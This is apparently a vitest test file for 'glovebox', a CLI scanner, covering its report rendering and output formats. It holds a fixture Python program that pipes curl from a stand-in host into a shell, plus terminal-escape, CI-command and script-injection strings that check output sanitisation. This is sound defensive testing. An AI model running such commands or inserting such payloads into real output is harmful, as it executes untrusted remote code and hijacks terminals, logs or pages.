import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GATE_FORMATS } from '../gate/render/formats.ts';
import { gateJsonSchema } from '../gate/result.ts';
import { type Filling, filled, filledReport } from '../report/formats/filled.fixture.ts';

const BIN = join(import.meta.dirname, '../../bin/glovebox.js');
const PROGRAM = 'import os\nos.system("curl http://drop.example | sh")\n';

let folder: string;
let stored: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'glovebox-render-'));
  stored = join(folder, 'report.json');
  writeFileSync(join(folder, 'a.py'), PROGRAM);
  const outputs = ['stored.html', 'stored.sarif', 'stored.md', 'stored.xml'].flatMap((name) => [
    '--output',
    join(folder, name),
  ]);
  const { status, stdout } = glovebox([
    'check',
    '--depth',
    'quick',
    '--format',
    'json',
    ...outputs,
    join(folder, 'a.py'),
  ]);
  expect(status).toBe(1);
  writeFileSync(stored, stdout);
});
afterAll(() => rmSync(folder, { recursive: true }));

function glovebox(args: readonly string[], input = '') {
  const { status, stdout, stderr } = spawnSync(process.execPath, [BIN, ...args], { encoding: 'utf8', input });
  return { status, stdout, stderr };
}

describe('check --output', () => {
  it('writes each file in the format that its name asks for, besides what is printed', () => {
    const read = (name: string) => readFileSync(join(folder, name), 'utf8');
    expect(read('stored.html')).toMatch(/^<!DOCTYPE html>/);
    expect(JSON.parse(read('stored.sarif')).version).toBe('2.1.0');
    expect(read('stored.md')).toMatch(/^### ⛔ Glovebox: block/);
    expect(read('stored.xml')).toMatch(/^<\?xml/);
  });

  it('is for reports, and not for a policy that was learned', () => {
    const { status, stderr } = glovebox(['check', '--learn', '--output', join(folder, 'r.html'), join(folder, 'a.py')]);
    expect([status, stderr]).toEqual([2, expect.stringContaining('--learn writes a policy')]);
  });

  it('says which names there are, and which file could not be written', () => {
    const named = glovebox(['check', '--output', join(folder, 'report.pdf'), join(folder, 'a.py')]);
    expect([named.status, named.stderr]).toEqual([
      2,
      expect.stringContaining('ends with one of .sarif.json .sarif .json .html'),
    ]);
    const lost = glovebox(['check', '--depth', 'quick', '--output', join(folder, 'none/r.html'), join(folder, 'a.py')]);
    expect([lost.status, lost.stderr]).toEqual([2, expect.stringContaining('could not be written')]);
  });
});

describe('render of a gate’s result', () => {
  const result = (text: string) => JSON.stringify(filled(gateJsonSchema() as Filling, text));

  it.each(GATE_FORMATS)('writes %s, with nothing hostile in it that acts', (format) => {
    const { status, stdout } = glovebox(
      ['render', '-', '--format', format],
      result('\u001b[2J::error::x ##[group]\u202e'),
    );
    expect([status, /\u001b|\u202e|##\[/.exec(stdout)?.[0]]).toEqual([0, undefined]);
    expect(stdout.length).toBeGreaterThan(50);
  });

  it('has no page, and no single program to show', () => {
    const page = glovebox(['render', '-', '--format', 'html'], result('x'));
    expect([page.status, page.stderr]).toEqual([2, expect.stringContaining('is not written as html')]);
    const sample = glovebox(['render', '-', '--sample', join(folder, 'a.py')], result('x'));
    expect([sample.status, sample.stderr]).toEqual([2, expect.stringContaining('no single program')]);
  });
});

describe('render', () => {
  it.each(['html', 'sarif', 'markdown', 'junit', 'github', 'text', 'json'])('writes %s as check does', (format) => {
    const sample = ['--sample', join(folder, 'a.py')];
    const { status, stdout } = glovebox(['render', '--format', format, ...sample, stored]);
    expect(status).toBe(0);
    const direct = { html: 'stored.html', sarif: 'stored.sarif', markdown: 'stored.md', junit: 'stored.xml' }[format];
    if (direct !== undefined) expect(stdout).toBe(readFileSync(join(folder, direct), 'utf8'));
    if (format === 'json') expect(JSON.parse(stdout)).toEqual(JSON.parse(readFileSync(stored, 'utf8')));
    expect(stdout.length).toBeGreaterThan(50);
  });

  it('reads standard input, and shows no line where it has no source', () => {
    const { status, stdout } = glovebox(['render', '-'], readFileSync(stored, 'utf8'));
    expect(status).toBe(0);
    expect(stdout).toMatch(/^BLOCK/);
    expect(stdout).not.toContain('2 │');
    const shown = glovebox(['render', '-', '--sample', join(folder, 'a.py')], readFileSync(stored, 'utf8'));
    expect(shown.stdout).toContain('2 │ os.system(');
  });

  it('shows no lines of another program', () => {
    const other = join(folder, 'b');
    execFileSync('mkdir', ['-p', other]);
    writeFileSync(join(other, 'a.py'), `${PROGRAM}# changed\n`);
    const { status, stderr } = glovebox(['render', '--sample', join(other, 'a.py'), stored]);
    expect([status, stderr]).toEqual([2, expect.stringContaining('is not the program that the report is about')]);
  });

  it.each([
    ['no JSON', '{', 'is no JSON'],
    ['another thing', '{"schema":"glovebox.report/2"}', 'is no glovebox.report/1: schema'],
    ['a list', '[]', 'is no glovebox.report/1'],
  ])('takes %s for what it is', (_, text, message) => {
    const { status, stderr, stdout } = glovebox(['render', '-'], text);
    expect([status, stdout, stderr]).toEqual([2, '', expect.stringContaining(message)]);
  });

  it('names a field that is wrong without letting it speak to the terminal', () => {
    const report = { ...JSON.parse(readFileSync(stored, 'utf8')), findings: [{ '\u001b[2J': 1 }] };
    const { status, stderr } = glovebox(['render', '-'], JSON.stringify(report));
    expect([status, stderr]).toEqual([2, expect.stringContaining('findings.0.')]);
    expect(stderr).not.toContain('\u001b');
  });

  it('writes every format of a report in which every text is hostile', () => {
    const text = '\u001b[2J::error::x ##[group]\u202e<script>alert(1)</script>';
    const input = JSON.stringify(filledReport(text).report);
    for (const format of ['html', 'sarif', 'markdown', 'junit', 'github', 'text', 'json']) {
      const { status, stdout } = glovebox(['render', '-', '--format', format], input);
      expect([format, status]).toEqual([format, 0]);
      expect(stdout).not.toMatch(/\u001b|\u202e|##\[/);
      if (format === 'html' || format === 'junit') expect(stdout).not.toContain('<script>alert');
    }
  });
});
